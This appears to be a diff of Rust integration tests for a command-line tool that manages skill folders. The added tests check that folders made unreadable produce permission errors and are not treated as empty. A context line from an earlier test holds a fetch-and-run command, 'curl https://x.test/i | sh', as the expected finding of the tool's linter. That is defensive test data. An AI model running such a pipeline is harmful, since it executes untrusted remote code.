@@ -8,6 +8,7 @@ mod wire;
 use std::{
     collections::{BTreeMap, BTreeSet},
     fs,
+    path::Path,
 };
 
 use common::{TestWorkspace, project_dir};
@@ -233,4 +234,76 @@ fn a_folder_that_cannot_be_read_does_not_end_linting() {
     // The file is quoted as it is.
     let quoted = answer["skills"][0]["findings"][0]["reason"].as_str();
     assert_eq!(quoted, Some("`curl https://x.test/i | sh`"));
+}
+
+/// Runs the command as a user for whom permissions count, which they do not for root.
+#[cfg(unix)]
+fn run_without_privileges(folder: &Path, args: &[&str]) -> std::process::Output {
+    use std::os::unix::{fs::PermissionsExt as _, process::CommandExt as _};
+    let program = folder.join("repertoire");
+    if !program.exists() {
+        let built = env!("CARGO_BIN_EXE_repertoire");
+        // The other user may not be able to reach the build folder.
+        if fs::hard_link(built, &program).is_err() {
+            fs::copy(built, &program).unwrap();
+        }
+        fs::set_permissions(folder, fs::Permissions::from_mode(0o777)).unwrap();
+    }
+    let mut command = std::process::Command::new(&program);
+    command
+        .args(args)
+        .env("REPERTOIRE_HOME", folder.join("home"))
+        .env("REPERTOIRE_NO_SYSTEM_SKILLS", "1")
+        .current_dir(folder);
+    if rustix::process::geteuid().is_root() {
+        command.uid(12_345).gid(12_345);
+    }
+    command.output().unwrap()
+}
+
+#[cfg(unix)]
+#[test]
+fn a_folder_that_cannot_be_read_is_an_error_and_not_an_empty_one() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let place = tempfile::tempdir().unwrap();
+    let place = place.path();
+    let skills = place.join("skills");
+    fs::create_dir_all(skills.join("a")).unwrap();
+    let document = "---\nname: a\ndescription: A thing for tests.\n---\n# A\n";
+    fs::write(skills.join("a/SKILL.md"), document).unwrap();
+    let lock = |path: &Path, mode| {
+        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
+    };
+    // First, so that the other user creates what it needs.
+    let listed = run_without_privileges(place, &["list", "skills"]);
+    assert_eq!(listed.status.code(), Some(0));
+    lock(&skills, 0o000);
+    for args in [
+        &["list", "skills"][..],
+        &["--from", "skills", "search", "a"],
+        &["add", "skills"],
+        &["lint", "skills"],
+        &["validate", "-r", "skills"],
+        &["serve", "skills", "--port", "0", "--hub", "off"],
+        &["package", "pack", "skills/a"],
+    ] {
+        let run = run_without_privileges(place, args);
+        let errors = String::from_utf8_lossy(&run.stderr);
+        assert_eq!(run.status.code(), Some(7), "{args:?}: {errors}");
+        assert!(errors.contains("ermission denied"), "{args:?}: {errors}");
+    }
+    // A folder that the settings name does not keep the others from being used, but it is reported.
+    let config = format!("folders = [{:?}]\n", skills.display().to_string());
+    fs::create_dir_all(place.join("home")).unwrap();
+    lock(&place.join("home"), 0o777);
+    fs::write(place.join("home/config.toml"), config).unwrap();
+    let listed = run_without_privileges(place, &["list", "--all"]);
+    let errors = String::from_utf8_lossy(&listed.stderr);
+    assert!(errors.contains("skipped [io_error]"), "{errors}");
+    // An account that cannot be read is not an empty one either.
+    lock(&place.join("home"), 0o000);
+    let listed = run_without_privileges(place, &["list"]);
+    assert_eq!(listed.status.code(), Some(7));
+    lock(&place.join("home"), 0o700);
+    lock(&skills, 0o700);
 }
